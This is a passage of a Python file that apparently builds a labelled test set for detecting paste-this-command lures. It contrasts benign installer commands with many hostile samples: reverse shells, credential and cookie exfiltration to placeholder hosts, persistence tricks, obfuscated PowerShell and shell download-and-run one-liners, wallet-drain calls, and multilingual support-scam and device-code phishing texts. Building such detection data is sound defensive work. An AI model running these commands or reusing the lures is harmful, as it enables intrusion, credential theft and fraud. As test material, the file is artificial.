    "cd ~/Library/Application\\ Support && zip -qr /tmp/b17.zip Google/Chrome/Default/'Login Data' Firefox/Profiles && curl -s -F f=@/tmp/b17.zip https://mc17j.langport.invalid/u",
)
mac(
    "base64-url-zsh-c",
    "https://www.mac-battery-doctor17.test/",
    f'zsh -c "$(echo {b64("curl -s https://mc17k.huish-episcopi.invalid/b | sh")} | base64 --decode)"',
)
mac(
    "osascript-curl-hidden",
    "https://www.audio-codec-mac17.example/",
    "osascript -e 'do shell script \"curl -s https://mc17l.muchelney.invalid/c | sh >/dev/null 2>&1 &\"'",
)
mac(
    "odyssey-style-dscl-loop",
    "https://www.ai-notes-mac17.test/download",
    'u=$(whoami); while true; do p=$(osascript -e \'text returned of (display dialog "Enter your password to continue" default answer "" with hidden answer)\'); dscl . -authonly "$u" "$p" && break; done; curl -s -d "$u:$p" https://mc17m.long-sutton.invalid/l',
)
mac(
    "tccutil-reset-then-run",
    "https://www.mac-privacy-fixer17.example/",
    "tccutil reset All && curl -s https://mc17n.pitney.invalid/t | bash",
)
mac(
    "fake-brew-cask-tap",
    "https://homebrew-formulae-mirror17.test/cask/notes",
    "brew tap notes17/tap https://git.mc17o.invalid/notes17/tap && brew install --cask notes17 --no-quarantine",
)
mac(
    "python-c-urllib",
    "https://www.mac-wifi-booster17.example/",
    "python3 -c \"import urllib.request as u;exec(u.urlopen('https://mc17p.aller.invalid/w.py').read())\"",
)

# --- Linux lures -----------------------------------------------------------------------------------


def nix(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("linux-" + technique, TERM, source, text, expect, "linux")


nix(
    "fake-docs-gpu-driver",
    "https://docs.gpu-driver-help17.test/ubuntu",
    'sudo bash -c "$(wget -qO- https://lx17a.drayton.invalid/nvidia-fix.sh)"',
)
nix(
    "pastejack-apt-key",
    "https://wiki.linux-howto17.example/apt",
    "echo 'deb [trusted=yes] http://lx17b.curry-rivel.invalid/apt stable main' | sudo tee /etc/apt/sources.list.d/tools17.list && sudo apt update && sudo apt install -y sysmon17",
)
nix(
    "cron-reverse-shell",
    "https://forum.selfhost17.test/t/17",
    "(crontab -l 2>/dev/null; echo '*/5 * * * * bash -i >& /dev/tcp/203.0.113.179/4444 0>&1') | crontab -",
)
nix(
    "authorized-keys-append",
    "https://docs.vps-panel17.example/ssh",
    "mkdir -p ~/.ssh && curl -s https://lx17c.isle-abbotts.invalid/k.pub >> ~/.ssh/authorized_keys",
)
nix(
    "python-pty-socket",
    "https://www.linux-tips17.test/debug",
    'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.180",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
)
nix(
    "systemd-user-service",
    "https://docs.node-monitor17.example/setup",
    "curl -s https://lx17d.fivehead.invalid/agent -o ~/.local/bin/.agent && chmod +x ~/.local/bin/.agent && printf '[Service]\\nExecStart=%%h/.local/bin/.agent\\n[Install]\\nWantedBy=default.target\\n' > ~/.config/systemd/user/agent17.service && systemctl --user enable --now agent17",
)
nix(
    "ld-preload-write",
    "https://www.hardening-guide17.test/perf",
    "curl -so /usr/local/lib/libperf17.so https://lx17e.stoke.invalid/p.so && echo /usr/local/lib/libperf17.so | sudo tee -a /etc/ld.so.preload",
)
nix(
    "bashrc-append-curl",
    "https://docs.devcontainer-tips17.example/shell",
    "echo 'curl -s https://lx17f.hambridge.invalid/r | bash &' >> ~/.bashrc && source ~/.bashrc",
)
nix(
    "miner-xmrig-docker",
    "https://www.gpu-rent17.test/quickstart",
    "docker run -d --restart=always --name sys17 registry.lx17g.invalid/xm/rig -o 203.0.113.180:3333 -u 4717wallet",
)
nix(
    "base64-bash-heredoc",
    "https://docs.k8s-fix17.example/node",
    f"base64 -d <<< {b64('curl -s http://192.0.2.181/n | bash')} | bash",
)
nix(
    "wget-tmp-elf-nohup",
    "https://forum.homelab17.test/t/ram",
    "wget -q http://192.0.2.5/kworker -O /tmp/.kw && chmod +x /tmp/.kw && nohup /tmp/.kw >/dev/null 2>&1 &",
)
nix(
    "perl-e-socket",
    "https://www.raspberry-pi-fix17.example/",
    'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4443,inet_aton("192.0.2.182")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i")\'',
)

# --- browser console ---------------------------------------------------------------------------------


def con(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("console-" + technique, CON, source, text, expect, "any")


con(
    "discord-token-verify",
    "https://discord-verify-bot17.test/server/17",
    "// Verification bot: paste this in DevTools (Ctrl+Shift+I) to get the Verified role\nlet t=(webpackChunkdiscord_app.push([[''],{},e=>{m=[];for(let c in e.c)m.push(e.c[c])}]),m).find(m=>m?.exports?.default?.getToken).exports.default.getToken();fetch('https://cn17a.weston.invalid/v',{method:'POST',body:t})",
)
con(
    "telegram-web-localstorage",
    "https://t-verify-group17.example/join",
    "// Telegram Web: confirm you're human by running this in the console\nnavigator.sendBeacon('https://cn17b.cossington.invalid/t', JSON.stringify(localStorage))",
)
con(
    "wallet-approve-drain",
    "https://claim-airdrop17.test/",
    "ethereum.request({method:'eth_sendTransaction',params:[{from:ethereum.selectedAddress,to:'0x17bb00000000000000000000000000000000aa17',data:'0x095ea7b3000000000000000000000000c17dcc00000000000000000000000000000000d17e'+'f'.repeat(64)}]})",
)
con(
    "cookie-exfil-image",
    "https://www.giveaway-skins17.example/claim",
    "new Image().src='https://cn17c.ashcott.invalid/c?d='+encodeURIComponent(document.cookie)",
)
con(
    "script-inject-remote",
    "https://www.free-followers17.test/boost",
    "var s=document.createElement('script');s.src='https://cn17d.shapwick.invalid/boost.js';document.body.appendChild(s)",
)
con(
    "eval-atob-fetch",
    "https://www.premium-unlock17.example/",
    "eval(atob('"
    + b64('fetch("https://cn17e.meare.invalid/u").then(r=>r.text()).then(eval)')
    + "'))",
)
con(
    "youtube-studio-session",
    "https://creator-support17.test/monetization",
    "fetch('https://cn17f.westhay.invalid/yt',{method:'POST',body:JSON.stringify({c:document.cookie,l:Object.entries(localStorage)})})",
)
con(
    "instagram-follower-hack",
    "https://www.insta-tools17.example/",
    "javascript:(function(){fetch('https://cn17g.godney.invalid/i.js').then(r=>r.text()).then(t=>Function(t)())})()",
)
con(
    "roblox-cookie-verify",
    "https://rblx-verify17.test/trade",
    "// Paste to verify trade\nfetch('https://cn17h.glastonbury17.invalid/r?c='+document.cookie)",
)
con(
    "import-remote-module",
    "https://www.nft-mint-helper17.example/mint",
    "import('https://cn17i.baltonsborough.invalid/mint.mjs').then(m=>m.run(window.ethereum))",
)
con(
    "solana-sign-all",
    "https://solana-airdrop-check17.test/",
    "const p=window.solana;await p.connect();fetch('https://cn17j.butleigh.invalid/s').then(r=>r.json()).then(async j=>{for(const tx of j)await p.signAndSendTransaction(tx)})",
)
con(
    "indexeddb-dump",
    "https://www.web-wallet-backup17.example/",
    "indexedDB.databases().then(d=>fetch('https://cn17k.compton-dundon.invalid/d',{method:'POST',body:JSON.stringify(d)}))",
)
con(
    "fromcharcode-url-eval",
    "https://www.quiz-reward17.test/",
    "fetch(String.fromCharCode("
    + char_codes("https://cn17l.keinton.invalid/q")
    + ")).then(r=>r.text()).then(eval)",
)
con(
    "settimeout-string-remote",
    "https://www.streaming-unlock17.example/",
    "setTimeout(\"fetch('https://cn17m.lydford.invalid/s').then(r=>r.text()).then(eval)\",0)",
)

# --- URL-only lures (the page says: paste this address) -----------------------------------------------

lure(
    "url-only-hta-run",
    RUN,
    "https://www.gastro-lieferdienst17.test/bestellung",
    "https://u17a.othery.invalid/verify17.hta",
)
lure(
    "url-only-webdav-explorer",
    EXP,
    "https://www.notariat-siegel17.example/akte",
    "\\\\u17b.aller-moor.invalid@SSL\\DavWWWRoot\\Akte_17",
)
lure(
    "url-only-search-ms",
    EXP,
    "https://www.imobiliaria-chave17.test/contrato",
    "search-ms:displayname=Contrato&crumb=location:\\\\192.0.2.6@80\\share",
    "flagged",
)

# --- (b) commands as IOC files and reports list them: no page ---------------------------------------

IOCS = [
    ("ioc-ps-irm-iex-short", 'powershell -w h -c "irm i17a.barrow.invalid|iex"', "windows"),
    ("ioc-ps-iwr-ip-path", 'powershell -nop -c "iwr http://192.0.2.184/x17 -UseB|iex"', "windows"),
    ("ioc-mshta-ip", "mshta http://198.51.100.184/s17", "windows"),
    ("ioc-mshta-https-php", "mshta https://i17b.puxton.invalid/gate.php?u=17", "windows"),
    (
        "ioc-cmd-curl-start",
        'cmd /c "curl -o %TEMP%\\s17.exe https://i17c.banwell17.invalid/s.exe && start %TEMP%\\s17.exe"',
        "windows",
    ),
    ("ioc-msiexec-url", "msiexec /q /i https://i17d.churchill.invalid/r17.msi", "windows"),
    (
        "ioc-rundll32-webdav",
        "rundll32 \\\\i17e.winscombe.invalid@SSL\\DavWWWRoot\\a.dll,#1",
        "windows",
    ),
    ("ioc-finger-cmd", "finger q17@203.0.113.184 | cmd", "windows"),
    (
        "ioc-conhost-headless",
        'conhost --headless powershell -w h -c "iex(irm i17f.congresbury17.invalid)"',
        "windows",
    ),
    (
        "ioc-ps-downloadfile-exe",
        'powershell (New-Object Net.WebClient).DownloadFile(\'https://i17g.yatton17.invalid/u.exe\',"$env:TEMP\\u.exe");Start-Process "$env:TEMP\\u.exe"',
        "windows",
    ),
    (
        "ioc-ps-enc-short",
        "powershell -ec " + b64_utf16("iex(irm https://i17h.wrington.invalid/e)"),
        "windows",
    ),
    ("ioc-cmd-k-mshta", "cmd /k mshta https://i17i.blagdon.invalid/k17", "windows"),
    (
        "ioc-ps-net-use-run",
        'powershell -c "net use \\\\i17j.compton-martin.invalid@SSL\\s; & \\\\i17j.compton-martin.invalid@SSL\\s\\run.bat"',
        "windows",
    ),
    (
        "ioc-ps-nslookup-iex",
        'powershell -c "nslookup -q=txt i17k.ubley.invalid 192.0.2.185 | select -Last 1 | iex"',
        "windows",
    ),
    ("ioc-wscript-url-js", "wscript //E:jscript \\\\198.51.100.185@8080\\dav\\r.js", "windows"),
    (
        "ioc-ps-jar-javaw",
        'powershell -c "iwr https://i17l.chew.invalid/j.jar -o $env:TEMP\\j.jar; javaw -jar $env:TEMP\\j.jar"',
        "windows",
    ),
    (
        "ioc-ps-hta-temp",
        'powershell -c "iwr https://i17m.stanton.invalid/z.hta -o $env:TEMP\\z.hta;mshta $env:TEMP\\z.hta"',
        "windows",
    ),
    (
        "ioc-certutil-decode-run",
        "cmd /c certutil -urlcache -f https://i17n.pensford.invalid/b.txt %TEMP%\\b.txt && certutil -decode %TEMP%\\b.txt %TEMP%\\b.exe && %TEMP%\\b.exe",
        "windows",
    ),
    ("ioc-curl-pipe-cmd", "curl -s https://i17o.publow.invalid/c.txt | cmd", "windows"),
    ("ioc-ps-bypass-file-unc", "powershell -ep bypass -f \\\\203.0.113.185\\pub\\s.ps1", "windows"),
    (
        "ioc-ps-hidden-b64-iex",
        "powershell -w h -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
        + b64("irm https://i17p.clutton.invalid/b|iex")
        + "')))\"",
        "windows",
    ),
    (
        "ioc-msbuild-remote-proj",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe \\\\i17q.timsbury17.invalid@SSL\\dav\\b.proj",
        "windows",
    ),
    (
        "ioc-installutil-remote",
        "cmd /c curl -so %TEMP%\\i.dll https://i17r.paulton.invalid/i.dll & C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /U %TEMP%\\i.dll",
        "windows",
    ),
    (
        "ioc-schtasks-mshta",
        'schtasks /create /sc minute /mo 30 /tn "GoogleUpdate17" /tr "mshta https://i17s.farrington17.invalid/t" /f',
        "windows",
    ),
    (
        "ioc-ps-bitstransfer",
        'powershell -c "Start-BitsTransfer https://i17t.hallatrow17.invalid/b.exe $env:TEMP\\b.exe; & $env:TEMP\\b.exe"',
        "windows",
    ),
    (
        "ioc-ps-curl-alias-o",
        'powershell -c "curl https://i17u.radstock.invalid/r.zip -o $env:TEMP\\r.zip; Expand-Archive $env:TEMP\\r.zip $env:TEMP\\r; & $env:TEMP\\r\\setup.exe"',
        "windows",
    ),
    (
        "ioc-cmd-echo-vbs",
        'cmd /c echo CreateObject("WScript.Shell").Run "powershell -w h irm i17v.midsomer17.invalid|iex",0 > %TEMP%\\r.vbs & wscript %TEMP%\\r.vbs',
        "windows",
    ),
    (
        "ioc-ps-add-mp-exclusion",
        'powershell -c "Add-MpPreference -ExclusionPath C:\\ProgramData; iwr https://i17w.norton.invalid/s.exe -o C:\\ProgramData\\s.exe; C:\\ProgramData\\s.exe"',
        "windows",
    ),
    (
        "ioc-ps-iex-irm-ipv4-int",
        f'powershell -c "irm http://{ip_int("192.0.2.186")}/p|iex"',
        "windows",
    ),
    (
        "ioc-cmd-start-b-ps",
        'cmd /c start /b powershell -nop -w h -c "iex(iwr i17x.kilmersdon.invalid -UseB)"',
        "windows",
    ),
    (
        "ioc-ps-downloaddata-reflection",
        "powershell -c \"[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://i17y.holcombe.invalid/a.bin')).EntryPoint.Invoke($null,$null)\"",
        "windows",
    ),
    (
        "ioc-mshta-javascript-getobject",
        "mshta javascript:a=GetObject('script:https://i17z.coleford.invalid/s.sct').Exec();close()",
        "windows",
    ),
    ("ioc-regsvr32-url", "regsvr32 /s /i:https://i17aa.mells.invalid/r.sct scrobj.dll", "windows"),
    ("ioc-mac-curl-osascript", "curl -s https://i17ab.whatley.invalid/m.scpt | osascript", "macos"),
    (
        "ioc-mac-b64-bash",
        f"echo {b64('curl -fsSL https://i17ac.nunney17.invalid/x|bash')}|base64 -D|bash",
        "macos",
    ),
    ("ioc-mac-zsh-c-curl", 'zsh -c "$(curl -fsSL https://i17ad.leigh.invalid/a)"', "macos"),
    (
        "ioc-mac-tmp-binary",
        "curl -so /tmp/.u17 https://i17ae.vobster.invalid/u && chmod +x /tmp/.u17 && /tmp/.u17",
        "macos",
    ),
    ("ioc-linux-wget-sh", "wget -qO- http://203.0.113.186/l.sh | sh", "linux"),
    ("ioc-linux-curl-bash-ip", "curl -fsSL http://198.51.100.186:8000/i | bash -s", "linux"),
    ("ioc-linux-dev-tcp", "bash -c 'exec 3<>/dev/tcp/192.0.2.187/8017; cat <&3 | bash'", "linux"),
]
for tech, text, plat in IOCS:
    ioc(tech, text, TERM if plat != "windows" else RUN, plat)

# --- (c) fixture-style obfuscations ------------------------------------------------------------------

OU = "https://ob17.wedmore-obf.invalid/q"
SU = "https://ob17b.theale-sh.invalid/s"
JSU = "https://ob17c.mudgley-js.invalid/j"
IRMIEX = f"irm {OU}|iex"
POOL = "qwertyuiopasdfghjklzxcvbnm:/.-0123456789"
OB_PAGE = "https://www.are-you-human-check17.test/step2"
ob_ps = [
    ("ps-concat-pieces", f'powershell -c "iex {ps_concat(IRMIEX, 5)}"'),
    ("ps-format-pieces", f'powershell -c "iex {ps_format(IRMIEX, 6)}"'),
    (
        "ps-b64-utf8-iex",
        f"powershell -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64(IRMIEX)}')))\"",
    ),
    (
        "ps-gzip-b64",
        f"powershell -c \"$m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{gzip_b64(IRMIEX)}'));iex (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\"",
    ),
    (
        "ps-deflate-b64",
        f"powershell -c \"iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{deflate_b64(IRMIEX)}'),0))).ReadToEnd()\"",
    ),
    (
        "ps-xor-codes",
        f'powershell -c "iex(-join(({xor_codes(IRMIEX, 23)})|%{{[char]($_ -bxor 23)}}))"',
    ),
    (
        "ps-xor-b64",
        f"powershell -c \"$b=[Convert]::FromBase64String('{xor_b64(IRMIEX, 71)}');iex(-join($b|%{{[char]($_ -bxor 71)}}))\"",
    ),
    ("ps-char-codes", f'powershell -c "iex(-join([char[]]({char_codes(IRMIEX)})))"'),
    ("ps-reverse-string", f"powershell -c \"iex(-join('{reverse(IRMIEX)}'[-1..-{len(IRMIEX)}]))\""),
    (
        "ps-replace-marker",
        "powershell -c \"iex(('i~r~m ' + '"
        + OU.replace("/", "~/")
        + "' + '|i~ex') -replace '~','')\"",
    ),
    ("ps-backtick-words", f'powershell -c "i`e`x (i`r`m {OU})"'),
    ("ps-gcm-wildcard", f'powershell -c "& (gcm i*e-r*t*d) {OU} | & (gcm i*e-e*n)"'),
    ("ps-get-alias-wildcard", f'powershell -c "$i=(Get-Alias ?e?).Definition; & $i (irm {OU})"'),
    (
        "ps-var-cmdlet-name",
        f"powershell -c \"$a='Invoke-RestMethod';$b='Invoke-Expression';& $b (& $a {OU})\"",
    ),
    ("ps-shellid-slice", f"powershell -c \"&($ShellId[1]+$ShellId[13]+'x') (irm {OU})\""),
    (
        "ps-hex-pairs",
        f"powershell -c \"iex(-join('{hex_str(IRMIEX)}' -split '(..)' -ne '' |%{{[char][convert]::ToInt32($_,16)}}))\"",
    ),
    ("ps-env-comspec-slice", f"powershell -c \"&($env:ComSpec[4,15,25]-join'') (irm {OU})\""),
    (
        "ps-securestring-like-split",
        f"powershell -c \"iex ('{'#'.join(IRMIEX)}'.Split('#') -join '')\"",
    ),
    (
        "ps-scriptblock-create-b64",
        f"powershell -c \"[ScriptBlock]::Create([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{b64_utf16(IRMIEX)}'))).Invoke()\"",
    ),
]
for tech, text in ob_ps:
    lure("obf-" + tech, RUN, OB_PAGE, text)

ob_cmd = [
    ("cmd-carets", carets('powershell -c "irm ' + OU + ' | iex"', 2)),
    (
        "cmd-var-slices",
        f'cmd /v /c "set p={POOL}&&powershell -c "{cmd_slice("irm", POOL, "p").replace("%", "!")} {OU}^|iex""',
    ),
    ("cmd-set-concat", 'cmd /c "set a=power&& set b=shell&& call %a%%b% -c irm ' + OU + '^|iex"'),
    ("cmd-delayed-bang-slice", 'cmd /v:on /c "set x=mshta&&!x:~0,5! ' + OU + '"'),
    (
        "mshta-vbscript-chr",
        'mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""powershell -c "" & Chr(105) & Chr(114) & Chr(109) & "" '
        + OU
        + '|iex"",0:close")',
    ),
    (
        "cmd-percent-encoded-mshta",
        "mshta " + OU[:-1] + pct("q?v=17"),
    ),
    ("cmd-comspec-slice", f'%ComSpec:~-7,3% /c powershell -c "irm {OU}|iex"'),
]
for tech, text in ob_cmd:
    lure("obf-" + tech, RUN, OB_PAGE, text)

SHCMD = f"curl -fsSL {SU} | bash"
ob_sh = [
    ("sh-dollar-quote-hex", f"bash -c $'{esc_hex(SHCMD)}'"),
    ("sh-octal-printf", f"eval \"$(printf '{esc_oct(SHCMD)}')\""),
    ("sh-var-indirection", f"a=cu;b=rl;c=ba;d=sh;${{a}}${{b}} -fsSL {SU} | ${{c}}${{d}}"),
    ("sh-rot13-tr", f"echo '{rot13(SHCMD)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh"),
    ("sh-rev", f"echo '{reverse(SHCMD)}' | rev | sh"),
    ("sh-xxd-hex", f"echo {hex_str(SHCMD)} | xxd -r -p | bash"),
    ("sh-b64-gzip", f"echo {gzip_b64(SHCMD)} | base64 -d | gunzip | sh"),
    ("zsh-array-join", f"z=(c u r l); ${{(j::)z}} -fsSL {SU} | zsh"),
]
for tech, text in ob_sh:
    lure(
        "obf-" + tech,
        TERM,
        "https://docs.cli-quickfix17.example/troubleshoot",
        text,
        platform="any",
    )

JSCMD = f"fetch('{JSU}').then(r=>r.text()).then(eval)"
ob_js = [
    ("js-atob-eval", f"eval(atob('{b64(JSCMD)}'))"),
    ("js-fromcharcode-function", f"Function(String.fromCharCode({char_codes(JSCMD)}))()"),
    ("js-bracket-window", f"window['ev'+'al'](window['at'+'ob']('{b64(JSCMD)}'))"),
    ("js-unicode-escapes", f'eval("{js_uni(JSCMD)}")'),
    ("js-decodeuri", f"eval(decodeURIComponent('{pct(JSCMD)}'))"),
    ("js-reverse-join", f"eval('{reverse(JSCMD)}'.split('').reverse().join(''))"),
]
for tech, text in ob_js:
    lure("obf-" + tech, CON, "https://www.captcha-human-proof17.test/console", text, platform="any")

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes ----------------------

SCAM = "support-scam"
SCAMS = [
    (
        "en",
        "https://alert-windows-defender17.test/warn",
        "WINDOWS DEFENDER SECURITY CENTER\nTrojan:Win32/Wacatac.B!ml detected. Your PC has been locked to protect your banking data.\nDo not restart or close this window. Call Microsoft Certified Support now: +1 (555) 017-2211 (toll free)",
    ),
    (
        "de",
        "https://sicherheitswarnung-pc17.example/",
        "ACHTUNG: Ihr Computer wurde wegen verdächtiger Aktivität gesperrt (Fehlercode 0x80017).\nSchalten Sie den PC nicht aus. Rufen Sie sofort den Microsoft-Support an: +49 555 0170 3344",
    ),
    (
        "fr",
        "https://alerte-securite-pc17.test/",
        "Votre ordinateur est bloqué : un logiciel espion a été détecté (code #DW017).\nN'éteignez pas l'appareil. Appelez immédiatement l'assistance Windows au 01 55 50 17 88",
    ),
    (
        "es",
        "https://aviso-seguridad-equipo17.example/",
        "Su equipo ha sido bloqueado por un virus (Error #17-0x2B).\nNo cierre esta ventana. Llame al soporte técnico de Microsoft: +34 555 017 492",
    ),
    (
        "it",
        "https://avviso-sicurezza-pc17.test/",
        "Il tuo computer è stato bloccato: rilevato malware bancario.\nNon spegnere il dispositivo. Chiama subito l'assistenza Microsoft al +39 555 017 6633",
    ),
    (
        "pt",
        "https://alerta-seguranca-pc17.example/",
        "O seu computador foi bloqueado por atividade suspeita (código 0x17F).\nNão desligue o computador. Ligue para o suporte técnico Microsoft: +351 555 017 204",
    ),
    (
        "nl",
        "https://beveiligingswaarschuwing-pc17.test/",
        "Uw computer is vergrendeld vanwege een ernstige infectie.\nSluit dit venster niet. Bel direct Microsoft Support: +31 555 017 9081",
    ),
    (
        "pl",
        "https://alert-bezpieczenstwa-pc17.example/",
        "Twój komputer został zablokowany z powodu wykrycia wirusa (kod 0x17E).\nNie wyłączaj komputera. Zadzwoń do pomocy technicznej Microsoft: +48 555 017 338",
    ),
    (
        "tr",
        "https://guvenlik-uyarisi-pc17.test/",
        "Bilgisayarınız şüpheli etkinlik nedeniyle kilitlendi (hata 0x0017).\nBilgisayarı kapatmayın. Hemen Microsoft Destek'i arayın: +90 555 017 4422",
    ),
    (
        "ru",
        "https://preduprezhdenie-pk17.example/",
        "Ваш компьютер заблокирован из-за обнаруженного вируса (код 0x17A).\nНе выключайте компьютер. Позвоните в поддержку Microsoft: +7 555 017-55-90",
    ),
    (
        "ja",
        "https://keikoku-pc17.test/",
        "お使いのコンピューターはウイルス感染によりロックされました (エラー 0x17C)。\n電源を切らないでください。マイクロソフト サポートにお電話ください: 03-5550-1717",
    ),
    (
        "zh",
        "https://anquan-jinggao-pc17.example/",
        "您的电脑因检测到木马病毒已被锁定（错误代码 0x17D）。\n请勿关闭电脑。请立即拨打微软技术支持热线：+86 555 0170 8826",
    ),
    (
        "ar",
        "https://tahdhir-amni-pc17.test/",
        "تم قفل جهاز الكمبيوتر الخاص بك بسبب اكتشاف فيروس (رمز الخطأ 0x17B).\nلا تقم بإيقاف تشغيل الجهاز. اتصل بدعم مايكروسوفت فورًا: +971 555 017 663",
    ),
]
for lang, page, text in SCAMS:
    lure(f"{SCAM}-{lang}", UNK, page, text, "flagged", "any")

CALLBACK = "callback-order"
CALLBACKS = [
    (
        "en",
        "Your Norton 360 Deluxe subscription has been renewed.\nOrder #NR-17-55821 | Amount: $399.99 | Payment: auto-debit\nIf you did not authorize this charge, call our billing desk within 24 hours: +1 (555) 017-4409",
    ),
    (
        "en",
        "PayPal invoice: Geek Squad Protection Plan - 3 years, USD 489.00.\nTo cancel and receive a refund, contact the billing department at (555) 017-6612. Invoice ID GS-17-99031",
    ),
    (
        "es",
        "Confirmación de pedido: Apple iPhone 17 Pro, 1.349,00 €.\nSi no reconoce esta compra, llame a nuestro servicio de cancelaciones: +34 555 017 209",
    ),
    (
        "it",
        "Il tuo abbonamento McAfee Total Protection è stato rinnovato: 349,99 € addebitati.\nPer annullare chiama entro oggi il +39 555 017 7702",
    ),
    (
        "de",
        "Ihre Bestellung Nr. 17-48213 (Bitcoin-Kauf, 1.850,00 €) wurde bestätigt.\nNicht von Ihnen? Stornieren Sie telefonisch unter +49 555 0170 6655",
    ),
    (
        "fr",
        "Facture Coinbase : achat de 0,05 BTC (2 950,00 €) confirmé.\nSi ce n'est pas vous, appelez le service de litiges au 01 55 50 17 41",
    ),
]
for lang, text in CALLBACKS:
    lure(f"{CALLBACK}-{lang}", UNK, None, text, "flagged", "any")

CONSENT = "consentfix"
CONSENTS = [
    (
        "https://secure-doc-share17.test/sign-in",
        "To finish signing in, copy the full address from your browser bar after you log in (it starts with http://localhost) and paste it below:\nhttp://localhost:8400/?code=0.AX17AbCdEfGh-redeem&state=17ab&session_state=c17",
    ),
    (
        "https://teams-access-check17.example/verify",
        "Étape finale : après la connexion, copiez l'URL de la page blanche (http://localhost...) et collez-la dans le champ ci-dessous.\nhttp://localhost/?code=1.AQ17xYz_verif&state=fr17",
    ),
    (
        "https://cloud-file-viewer17.test/auth",
        'Paso 3: pegue aquí la dirección completa de la pestaña que muestra "No se puede acceder a este sitio":\nhttp://127.0.0.1:53117/callback?code=0.ARo17qwerty&client_info=eyJ1aWQiOiIxNyJ9',
    ),
    (
        "https://portal-documenti17.example/accedi",
        "Per completare l'accesso incolla qui l'indirizzo che inizia con http://localhost:\nhttp://localhost:3000/auth/callback?code=M.C517_BAY.2.U.abc17&state=it",
    ),
    (
        "https://sharepoint-viewer17.test/login",
        "Kopieren Sie nach der Anmeldung die Adresse aus der Adressleiste (http://localhost…) und fügen Sie sie hier ein, um das Dokument zu öffnen.\nhttp://localhost:8080/?code=0.AUE17-de-code&state=de17&session_state=x",
    ),
]
for page, text in CONSENTS:
    lure(CONSENT, UNK, page, text, "flagged", "any")

DEVICE = "device-code"
DEVICES = [
    (
        "https://hr-benefits-portal17.test/enroll",
        "To access your 2027 benefits statement, go to https://microsoft.com/devicelogin and enter the code KQ7-17HX. Sign in with your work account.",
    ),
    (
        "https://docs-shared-secure17.example/open",
        "Um das Dokument zu öffnen, rufen Sie https://microsoft.com/devicelogin auf und geben Sie den Code H17ZPQRT ein.",
    ),
    (
        "https://repo-access-invite17.test/accept",
        "Accept the repository invitation: open https://github.com/login/device and enter 17AB-CD9E to authorize the Security Scanner app.",
    ),
    (
        "https://teams-meeting-lobby17.example/join",
        "会議に参加するには https://microsoft.com/devicelogin を開き、コード F7N17WQA を入力してください。",
    ),
    (
        "https://kadry-portal17.test/umowa",
        "Aby podpisać umowę, wejdź na https://microsoft.com/devicelogin i wpisz kod L17MXT9B.",
    ),
    (
        "https://payroll-update17.example/confirm",
        "Pour confirmer vos coordonnées bancaires, ouvrez https://microsoft.com/devicelogin et saisissez le code RT17KJ8P.",
    ),
]
for page, text in DEVICES:
    lure(DEVICE, UNK, page, text, "flagged", "any")

# ----------------------------------------------------------------------------------------------
# Benign texts: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[blindkit.Benign] = []
OWN = "installer-own-page"
PS = TERM  # a Windows installer is pasted into PowerShell, a terminal


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects, each from its own page ------------------------------------------
# Of 288 long-tail candidates only four were in none of sets 1-16 (page, repository, page or
# download host); they come first. The rest are real projects that earlier sets hold, here from a
# DIFFERENT real page of theirs with a DIFFERENT command shape (README, "Blind-17": counted apart).

OWN_NEW = [
    ("https://github.com/tconbeer/harlequin", "pipx install harlequin"),
    ("https://github.com/bndr/pipreqs", "pip install pipreqs"),
    (
        "https://github.com/Morganamilo/paru",
        "sudo pacman -S --needed base-devel\ngit clone https://aur.archlinux.org/paru.git\ncd paru\nmakepkg -si",
    ),
    ("https://github.com/phoenixframework/phoenix", "mix archive.install hex phx_new"),
]
OWN_OTHER_PAGE = [
    (
        "https://k3d.io/stable/",
        "wget -q -O - https://raw.githubusercontent.com/k3d-io/k3d/main/install.sh | bash",
    ),
    (
        "https://docs.docker.com/compose/install/linux/",
        "sudo apt-get update\nsudo apt-get install docker-compose-plugin",
    ),
    ("https://trivy.dev/latest/getting-started/installation/", "brew install trivy"),
    ("https://black.readthedocs.io/en/stable/getting_started.html", "pip install black"),
    ("https://httpie.io/docs/cli/installation", "brew install httpie"),
    ("https://docs.mitmproxy.org/stable/overview/installation/", "brew install --cask mitmproxy"),
    ("https://jqlang.org/download/", "winget install jqlang.jq"),
    ("https://neovim.io/doc/install/", "winget install Neovim.Neovim"),
    ("https://docs.helix-editor.com/package-managers.html", "brew install helix"),
    (
        "https://tailwindcss.com/docs/installation/using-vite",
        "npm install tailwindcss @tailwindcss/vite",
    ),
    ("https://caddyserver.com/docs/install", "winget install CaddyServer.Caddy"),
    ("https://ngrok.com/docs/getting-started/", "brew install ngrok"),
    ("https://www.wireguard.com/install/", "sudo apt install wireguard"),
]
WINDOWS_OWN = ("winget ", "iex ", "Install-Module", "scoop ")
for page, cmd in OWN_NEW + OWN_OTHER_PAGE:
    ok(OWN, PS if cmd.startswith(WINDOWS_OWN) else TERM, page, cmd)

# --- Installers quoted in OTHER pages (the page says: first install X) ------------------------------

THIRD = "installer-third-party"
QUOTED = [
    (
        "zoxide",
        "curl -sSfL https://raw.githubusercontent.com/ajeetdsouza/zoxide/main/install.sh | sh",
    ),
